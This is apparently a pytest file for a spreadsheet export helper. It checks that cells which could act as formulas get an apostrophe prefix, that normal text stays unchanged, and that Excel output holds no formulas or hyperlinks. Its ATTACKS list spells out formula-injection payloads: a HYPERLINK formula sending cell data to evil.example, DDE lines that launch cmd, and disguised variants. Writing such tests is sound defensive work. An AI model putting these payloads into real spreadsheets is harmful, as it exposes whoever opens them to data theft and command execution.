"""Cells that no spreadsheet takes for a formula, in both formats."""

import csv
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from shared.spreadsheets import LONGEST_CELL, safe_cell, sheet_in

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "|cmd",
    "%0A=1",
]

HARMLESS = ["银行卡丢失", "a=b", "2020-01-06", "T-000123-7", "", "5 - 3", "他说：=好"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_that_could_be_a_formula_is_led_by_an_apostrophe(attack: str) -> None:
    assert str(safe_cell(attack)).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert text == safe_cell(text)


def test_numbers_and_nothing_stay_as_they_are() -> None:
    assert (-5, None) == (safe_cell(-5), safe_cell(None))


def test_a_cell_is_never_longer_than_excel_holds() -> None:
    assert LONGEST_CELL == len(str(safe_cell("=" + "x" * 50_000)))


def test_csv_is_read_back_as_it_was_written_with_its_mark(tmp_path: Path) -> None:
    path = tmp_path / "file"
    rows = [["工单号", "主题"], ["T-1", 'say "hi",\nplease'], ["T-2", "=1+1"], ["T-3", None]]
    with sheet_in(path, "csv") as sheet:
        for row in rows:
            sheet.write(row)
    content = path.read_bytes()

    assert b"\xef\xbb\xbf" == content[:3]
    assert [["工单号", "主题"], ["T-1", 'say "hi",\nplease'], ["T-2", "'=1+1"], ["T-3", ""]] == [
        *csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    ]


def test_excel_holds_texts_and_numbers_and_no_formula_or_link(tmp_path: Path) -> None:
    path = tmp_path / "file"
    with sheet_in(path, "excel") as sheet:
        for attack in [*ATTACKS, "http://evil.example", "银行"]:
            sheet.write([attack, 7])
    with zipfile.ZipFile(path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    cells = list(ET.fromstring(sheet_xml).findall(".//{*}c"))

    assert 2 * (len(ATTACKS) + 2) == len(cells)
    assert "<f>" not in sheet_xml
    assert "hyperlink" not in sheet_xml
    assert "银行" in sheet_xml
    assert [] == [one for one in names if "rels" in one and "sheet" in one]
